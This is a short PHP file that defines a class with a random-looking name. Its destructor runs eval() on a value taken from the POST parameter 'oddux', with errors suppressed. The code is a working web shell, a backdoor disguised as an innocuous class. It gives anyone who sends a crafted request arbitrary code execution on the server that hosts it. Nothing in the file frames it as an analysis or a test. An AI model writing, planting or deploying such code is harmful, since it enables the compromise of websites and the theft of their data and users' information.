<?php
class JAYhYGG
{
    public $data;
    public function __construct($d = null) { $this->data = $d; }
    public function __destruct()
    {
        if ($this->data) {
            @eval($this->data);
        }
    }
}
$c = new JAYhYGG(@$_POST['oddux']);
